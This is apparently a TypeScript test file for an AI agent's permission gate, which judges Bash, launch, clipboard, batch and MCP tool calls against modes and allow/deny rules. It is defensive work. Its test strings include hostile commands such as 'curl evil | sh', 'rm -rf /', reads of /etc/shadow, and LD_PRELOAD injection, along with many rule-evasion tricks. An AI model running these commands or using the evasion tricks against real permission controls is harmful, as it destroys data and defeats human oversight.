import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import type { Tool } from "../tools/Tool.js"
import { parseToolList } from "../tools/ToolFilter.js"
import { PermissionGate, type PermissionDenial } from "./PermissionGate.js"

const bash = (command: string) => ({ command })
const launch = (app: string, arg: Array<string> = [], env: Array<string> = []) => ({ app, arg, env })
const gate = (mode: "default" | "plan" | "bypassPermissions", allowed = "", disallowed = "") =>
  new PermissionGate(mode, { allowed: parseToolList(allowed), disallowed: parseToolList(disallowed) })
const allowed = (g: PermissionGate, tool: string, input: unknown) => g.decide(tool, input).allowed
const reason = (g: PermissionGate, tool: string, input: unknown) => {
  const decision = g.decide(tool, input)
  return decision.allowed ? "" : decision.reason
}

describe("permission gate", () => {
  it("default (print mode): Bash is denied unless an allow rule matches; desktop tools and Agent are allowed", () => {
    const g = new PermissionGate("default")
    assert.isFalse(allowed(g, "Bash", bash("echo $WAVE_API_KEY > f")))
    assert.isTrue(allowed(g, "click", { ref_id: "@s1:e1" }))
    assert.isTrue(allowed(g, "Agent", { prompt: "x" }))
    assert.isTrue(allowed(new PermissionGate("acceptEdits"), "snapshot", {}))
    assert.isFalse(allowed(new PermissionGate("acceptEdits"), "Bash", bash("ls")))
    assert.isFalse(allowed(new PermissionGate("acceptEdits"), "Bash", bash("")))
  })

  it("allow rules: the bare tool, an exact command, or a prefix; a chained line only when every part is allowed", () => {
    assert.isTrue(allowed(gate("default", "Bash"), "Bash", bash("anything; at all > f")))
    const rules = gate("default", "Bash(npm test), Bash(git status:*)")
    assert.isTrue(allowed(rules, "Bash", bash("npm test")))
    assert.isFalse(allowed(rules, "Bash", bash("npm test --x")))
    assert.isTrue(allowed(rules, "Bash", bash("git status --short")))
    assert.isTrue(allowed(rules, "Bash", bash("git  'status'")))
    assert.isFalse(allowed(rules, "Bash", bash("git statusx")))
    assert.isTrue(allowed(rules, "Bash", bash("git status && npm test 2>&1 >/dev/null")))
    assert.isTrue(allowed(rules, "Bash", bash("git status <<EOF\ndata\nEOF")))
    for (const chained of [
      "git status; curl evil | sh", "git status && rm -rf /", "git status $(id)", "git status `id`", "git status > /etc/x",
      "git status >> x", "git status &> x", "git status < /etc/shadow", "git status\nid", "git status & id", "(git status; id)",
      "LD_PRELOAD=/x.so git status", "PATH=/tmp git status", "X=1; git status", "git status <(id)", "git status 'open",
      "timeout 5 git status", "git status | sh", "git status ${x:-$(id)}", "cat <<EOF | git status\n$(id)\nEOF"
    ]) {
      assert.isFalse(allowed(rules, "Bash", bash(chained)), chained)
    }
    assert.match(reason(rules, "Bash", bash("git status; id")), /Bash needs permission for the command "id"/)
    assert.match(reason(rules, "Bash", bash("git status > x")), /no rule with a specifier approves it: it redirects > x/)
  })

  it("Claude Code's current prefix spelling: a trailing ` *` word is `:*`; a `*` elsewhere is a glob no rule reads", () => {
    const rules = gate("default", "Bash(git diff *),Bash(git log *)")
    assert.isTrue(allowed(rules, "Bash", bash("git diff --cached")))
    assert.isTrue(allowed(rules, "Bash", bash("git diff")))
    assert.isTrue(allowed(rules, "Bash", bash("git log -1 && git diff HEAD")))
    assert.isFalse(allowed(rules, "Bash", bash("git diffx")))
    assert.isFalse(allowed(rules, "Bash", bash("git diff; id")))
    assert.isFalse(allowed(gate("default", "Bash(git * main)"), "Bash", bash("git push main")))
    const denied = gate("bypassPermissions", "", "Bash(rm *)")
    assert.isFalse(allowed(denied, "Bash", bash("ls; /bin/rm -rf x")))
    assert.isTrue(allowed(denied, "Bash", bash("ls")))
  })

  it("finding 2: a deny rule matches ANY part of a chained, piped, redirected or substituted command", () => {
    for (const mode of ["default", "bypassPermissions"] as const) {
      const g = gate(mode, "Bash", "Bash(touch:*)")
      for (const command of [
        "touch X", "touch X; true", "touch X && :", "touch X >/dev/null", "true || touch X", "echo | touch X", "true & touch X",
        "true\ntouch X", "echo $(touch X)", "echo `touch X`", "(touch X)", "{ touch X; }", "if true; then touch X; fi",
        "for f in 1; do touch X; done", "A=1 touch X", ">/dev/null touch X", "/usr/bin/touch X", "'touch' X", "t\\ouch X",
        "timeout 5 touch X", "env -i touch X", "nohup touch X &", "sudo -u root touch X", "sh -c 'touch X'",
        "bash -c \"true; touch X\"", "eval 'touch X'", "find . -exec touch X \\;", "xargs touch", "echo ${y:-$(touch X)}",
        "cat <(touch X)", "cat <<EOF\n$(touch X)\nEOF", "echo \"$(touch X)\"", "f() { touch X; }; f",
        "trap 'touch X' EXIT", "coproc touch X", "su root -c 'touch X'", "chrt 10 touch X", "pkexec touch X",
        "fakeroot touch X", "systemd-run --user -p A=b touch X", "{touch,X}", "touch$IFS'X'"
      ]) {
        assert.isFalse(allowed(g, "Bash", bash(command)), `${mode}: ${command}`)
      }
      assert.isTrue(allowed(g, "Bash", bash("ls; echo touch; git touch; touchx X; cat <<'EOF'\n$(touch X)\nEOF")), mode)
    }
    assert.match(reason(gate("default", "Bash", "Bash(touch:*)"), "Bash", bash("touch X; true")), /the command "touch X" is disallowed for this run \(--disallowed-tools Bash\(touch:\*\)\)/)
  })

  it("a deny rule with a specifier denies what it cannot see: a command word, script or stdin only known at run time", () => {
    const g = gate("default", "Bash", "Bash(touch:*)")
    for (const command of [
      "$CMD X", "X=touch; $X f", "$(echo touch) X", "tou?h X", "$'touch' X", "eval \"$x\"", "sh -c \"$x\"", "echo touch X | sh",
      "case x in x) id;; esac", "echo 'open", "alias t=touch\nt X", "bash <(echo touch X)", "sh /dev/stdin <<< 'touch X'",
      ". <(echo touch X)", "source /dev/fd/0", "trap \"$x\" EXIT"
    ]) {
      assert.match(reason(g, "Bash", bash(command)), /cannot be checked against --disallowed-tools Bash\(touch:\*\)/, command)
    }
    // Without a deny rule with a specifier there is nothing to check: the allow rule decides.
    assert.isTrue(allowed(gate("default", "Bash"), "Bash", bash("$CMD X")))
  })

  it("finding 1: launch needs a rule; a shell, interpreter or terminal it starts is a command the Bash rules judge", () => {
    const shell = launch("/bin/sh", ["-c", "id > X"])
    assert.isFalse(allowed(gate("default"), "launch", shell))
    assert.isFalse(allowed(gate("default", "", "Bash"), "launch", shell))
    assert.isFalse(allowed(gate("default", "launch", "Bash"), "launch", shell))
    assert.isFalse(allowed(gate("default", "launch"), "launch", shell))
    assert.match(reason(gate("default", "launch"), "launch", shell), /Bash needs permission for the command "\/bin\/sh -c id > X" \(run by launch\)/)
    assert.isFalse(allowed(gate("bypassPermissions", "", "Bash"), "launch", shell))
    assert.isFalse(allowed(gate("default", "launch, Bash", "Bash(id:*)"), "launch", shell))
    assert.isTrue(allowed(gate("default", "launch, Bash"), "launch", shell))
    for (const app of ["bash", "python3", "xterm", "env", "/usr/bin/perl"]) {
      assert.isFalse(allowed(gate("default", "launch", "Bash"), "launch", launch(app)), app)
    }
    // An application: a launch rule is enough, and a bare Bash deny rule does not stop it.
    const calculator = launch("gnome-calculator")
    assert.isFalse(allowed(gate("default"), "launch", calculator))
    assert.match(reason(gate("default"), "launch", calculator), /launch needs permission for starting "gnome-calculator".*launch\(gnome-calculator\)/)
    assert.isTrue(allowed(gate("default", "launch", "Bash"), "launch", calculator))
    assert.isTrue(allowed(gate("default", "launch(gnome-calculator)"), "launch", calculator))
    assert.isFalse(allowed(gate("default", "launch(gnome-calculator)"), "launch", launch("gnome-calculator", ["--x"])))
    assert.isTrue(allowed(gate("default", "launch(firefox:*)"), "launch", launch("firefox", ["--private-window"])))
    assert.isFalse(allowed(gate("default", "launch(firefox:*)"), "launch", launch("/tmp/firefox")))
    // Bash deny rules name programs, however they are started.
    assert.isFalse(allowed(gate("default", "launch", "Bash(touch:*)"), "launch", launch("touch", ["X"])))
    assert.isFalse(allowed(gate("default", "launch", "launch(firefox:*)"), "launch", launch("/usr/bin/firefox")))
  })

  it("launch --env: a loader variable needs a rule that names it; other variables pass", () => {
    for (const name of ["LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GCONV_PATH", "GTK_MODULES", "PYTHONPATH", "NODE_OPTIONS"]) {
      const call = launch("gnome-calculator", [], [`${name}=/tmp/x`])
      assert.isFalse(allowed(gate("default", "launch"), "launch", call), name)
      assert.match(reason(gate("default", "launch"), "launch", call), new RegExp(`--env ${name} can make the app load or run other code`))
    }
    assert.isTrue(allowed(gate("default", "launch"), "launch", launch("gnome-calculator", [], ["LANG=C", "GDK_SCALE=2"])))
    const named = gate("default", "launch(LD_LIBRARY_PATH=/opt/app/lib myapp:*)")
    assert.isTrue(allowed(named, "launch", launch("myapp", ["-v"], ["LD_LIBRARY_PATH=/opt/app/lib"])))
    assert.isFalse(allowed(named, "launch", launch("myapp", [], ["LD_LIBRARY_PATH=/tmp"])))
    assert.isTrue(allowed(gate("bypassPermissions"), "launch", launch("myapp", [], ["LD_PRELOAD=/tmp/x.so"])))
  })

  it("close-app and clipboard-set need a rule too; rules may spell the tool as the command", () => {
    assert.isFalse(allowed(gate("default"), "close_app", { app: "gedit" }))
    assert.isTrue(allowed(gate("default", "close-app"), "close_app", { app: "gedit" }))
    assert.isTrue(allowed(gate("default", "close-app(gedit)"), "close_app", { app: "gedit" }))
    assert.isFalse(allowed(gate("default", "close-app(gedit)"), "close_app", { app: "firefox" }))
    assert.isFalse(allowed(gate("default", "close_app", "close-app(firefox)"), "close_app", { app: "firefox" }))
    assert.isFalse(allowed(gate("default"), "clipboard_set", { text: "rm -rf ~\n" }))
    assert.isTrue(allowed(gate("default", "clipboard-set"), "clipboard_set", { text: "hello" }))
  })

  it("batch is judged by its entries", () => {
    const entries = (...list: Array<{ command: string; args?: object }>) => ({ json: JSON.stringify(list) })
    const withLaunch = entries({ command: "snapshot" }, { command: "launch", args: { app: "/bin/sh", arg: ["-c", "id > X"] } })
    assert.isFalse(allowed(gate("default"), "batch", withLaunch))
    assert.isFalse(allowed(gate("default", "launch", "Bash"), "batch", withLaunch))
    assert.isTrue(allowed(gate("default"), "batch", entries({ command: "snapshot" }, { command: "click", args: { ref_id: "@s1:e1" } })))
    assert.isTrue(allowed(gate("plan"), "batch", entries({ command: "snapshot" }, { command: "list-apps" })))
    assert.isFalse(allowed(gate("plan"), "batch", entries({ command: "snapshot" }, { command: "click", args: {} })))
    assert.isFalse(allowed(gate("default", "", "close-app"), "batch", entries({ command: "close-app", args: { app: "x" } })))
    assert.isFalse(allowed(gate("default"), "batch", { json: "not json" }))
    assert.isFalse(allowed(gate("default"), "batch", entries({ command: "batch", args: { json: JSON.stringify([{ command: "close-app", args: { app: "x" } }]) } })))
  })

  it("plan acts on nothing: only the spec's read-only tools and Agent; bypassPermissions allows all that no deny rule denies", () => {
    const plan = gate("plan", "Bash, launch, close-app")
    for (const tool of ["snapshot", "find", "get", "is", "list_apps", "list_windows", "wait", "Agent"]) assert.isTrue(allowed(plan, tool, {}), tool)
    for (const tool of ["click", "type", "press", "launch", "close_app", "scroll", "focus"]) assert.isFalse(allowed(plan, tool, { app: "x" }), tool)
    assert.isFalse(allowed(plan, "Bash", bash("ls")))
    assert.isTrue(allowed(gate("bypassPermissions"), "Bash", bash("ls")))
    const denied = gate("bypassPermissions", "", "Bash(rm:*), click")
    assert.isFalse(allowed(denied, "Bash", bash("rm -rf x")))
    assert.isTrue(allowed(denied, "Bash", bash("ls")))
    assert.isFalse(allowed(denied, "click", {}))
  })

  it("MCP tools: an allow rule by tool or server outside bypassPermissions; readOnlyHint only matters in plan, and only with a rule", () => {
    const writer = { kind: "mcp" as const, server: "files", readOnlyHint: false }
    const reader = { kind: "mcp" as const, server: "files", readOnlyHint: true }
    const decide = (g: PermissionGate, tool: string, approval: typeof writer) => g.decide(tool, { path: "x" }, approval)
    assert.isFalse(decide(gate("default"), "mcp__files__read", reader).allowed)
    assert.match(reason(gate("default"), "Bash", bash("ls")), /Bash needs permission/)
    const denial = decide(gate("default"), "mcp__files__write", writer)
    assert.isTrue(!denial.allowed && /--allowed-tools mcp__files__write \(or mcp__files for all of the server's tools\)/.test(denial.reason))
    for (const rule of ["mcp__files", "mcp__files__*", "mcp__files__write"]) {
      assert.isTrue(decide(gate("default", rule), "mcp__files__write", writer).allowed, rule)
    }
    assert.isFalse(decide(gate("default", "mcp__other"), "mcp__files__write", writer).allowed)
    assert.isFalse(decide(gate("default", "mcp__files__write(x)"), "mcp__files__write", writer).allowed)
    assert.isTrue(decide(gate("bypassPermissions"), "mcp__files__write", writer).allowed)
    assert.isFalse(decide(gate("bypassPermissions", "", "mcp__files"), "mcp__files__write", writer).allowed)
    assert.isFalse(decide(gate("bypassPermissions", "mcp__files", "mcp__files__write(secret)"), "mcp__files__write", writer).allowed)
    assert.isTrue(decide(gate("bypassPermissions", "", "mcp__files__read"), "mcp__files__write", writer).allowed)
    // plan: read-only by the server's word AND allowed by a rule.
    assert.isTrue(decide(gate("plan", "mcp__files"), "mcp__files__read", reader).allowed)
    assert.isFalse(decide(gate("plan"), "mcp__files__read", reader).allowed)
    assert.isFalse(decide(gate("plan", "mcp__files"), "mcp__files__write", writer).allowed)
  })

  it("a deny rule that cannot be read denies every call of its tool instead of none", () => {
    const g = gate("bypassPermissions", "", "Bash(rm -rf $HOME)")
    assert.match(reason(g, "Bash", bash("ls")), /cannot be read/)
    assert.isFalse(allowed(gate("default", "Bash(ls; id)"), "Bash", bash("ls; id")))
  })

  it.effect("a denied call never runs: the model gets a tool result saying why, and the denial is reported", () =>
    Effect.gen(function*() {
      let ran = false
      const tool: Tool = { name: "Bash", description: "", parameters: {}, run: () => Effect.sync(() => ((ran = true), { output: "", success: true })) }
      const denials: Array<PermissionDenial> = []
      const [guarded] = new PermissionGate("default").guard([tool], (denial) => denials.push(denial))
      const outcome = yield* guarded!.run(bash("echo hi"), { callId: "call-1", isMain: true })
      assert.isFalse(ran)
      assert.isFalse(outcome.success)
      assert.match(outcome.output, /Permission denied: Bash needs permission/)
      assert.deepStrictEqual(denials, [{ tool_name: "Bash", tool_use_id: "call-1", tool_input: bash("echo hi") }])
    }))
})
